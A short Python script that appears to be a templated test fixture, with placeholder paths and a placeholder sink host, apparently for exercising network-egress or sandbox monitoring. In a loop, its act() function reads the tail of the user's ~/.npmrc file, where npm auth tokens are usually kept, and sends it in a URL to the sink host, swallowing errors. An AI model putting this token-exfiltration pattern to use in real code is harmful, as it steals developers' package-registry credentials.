import contextlib
import time
import urllib.request
from pathlib import Path

MARKS = Path("@MARKS@")


def knock(port):
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://@SINK@:{port}/", timeout=2)


def act():
    knock(8000)
    (MARKS / "started").touch()
    while not (MARKS / "go").exists():
        with contextlib.suppress(OSError):
            urllib.request.urlopen("http://@SINK@:8080/" + Path.home().joinpath(".npmrc").read_text()[-20:].strip(), timeout=2)
        time.sleep(0.1)
    knock(8443)
    (MARKS / "done").touch()
